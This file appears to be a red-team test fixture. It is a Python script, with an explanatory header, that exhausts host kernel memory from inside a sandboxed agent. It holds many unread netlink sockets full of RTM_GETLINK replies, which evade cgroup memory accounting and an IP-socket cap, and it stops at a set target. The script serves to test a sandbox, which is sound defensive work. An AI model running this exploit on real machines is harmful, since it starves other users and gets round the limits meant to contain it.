#!/usr/bin/python3
# Red team 37: a --net host agent pins host kernel memory no cgroup is charged for.
#
# Its seccomp filter lets it open NETLINK_ROUTE sockets (for interface lookups). Each request
# (RTM_GETLINK of lo, ~1.4 KB) is answered by the kernel into the socket's receive queue; an
# agent that never reads keeps the answers there, up to the socket's receive buffer
# (SO_RCVBUF, capped at 2 x net.core.rmem_max: 8 MiB on this machine, 416 KiB at the kernel's
# default). Those skbs are allocated by the kernel and charged to no memory cgroup (the agent's
# memory.usage stays at tens of MiB), and netlink sockets are not IP sockets, so the socket cap
# (bind_guard.ts) never counts them. Sockets x buffer: 4,096 descriptors per process, 256
# processes per agent. This fixture stops at a target (MiB) so the machine running it survives.
#
# Usage: nlpin.py <dir> <target MiB> <hold seconds>
import socket, struct, sys, os, time
d, target, hold = sys.argv[1], int(sys.argv[2]) << 20, float(sys.argv[3])
out = open(f"{d}/nlpin.log", "a", buffering=1)
def say(*a): out.write("%.1f " % time.time() + " ".join(str(x) for x in a) + "\n")
say("start target MiB", target >> 20, "uid", os.getuid())
SO_MEMINFO = 55
def queued(s):  # sk_rmem_alloc: bytes the socket's receive queue holds
    return struct.unpack("9I", s.getsockopt(socket.SOL_SOCKET, SO_MEMINFO, 36))[0]
def one():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)  # NETLINK_ROUTE
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 64 << 20)
    s.bind((0, 0))
    s.setblocking(False)
    ifi = struct.pack("BxHiII", 0, 0, 1, 0, 0)  # ifinfomsg: ifindex 1 (lo)
    for k in range(4000):
        try:
            s.send(struct.pack("IHHII", 32, 18, 1, k, 0) + ifi)  # RTM_GETLINK, NLM_F_REQUEST
        except BlockingIOError:
            break
    return s
held, pinned, why, t0 = [], 0, "target", time.time()
while pinned < target:
    try:
        s = one()
    except OSError as e:
        why = str(e); break
    held.append(s)
    pinned += queued(s)
    if len(held) % 50 == 0: say("sockets", len(held), "pinned MiB", pinned >> 20)
say("HELD sockets", len(held), "pinned MiB", pinned >> 20, "in %.1fs" % (time.time() - t0), "stop:", why)
time.sleep(hold)
say("exit")
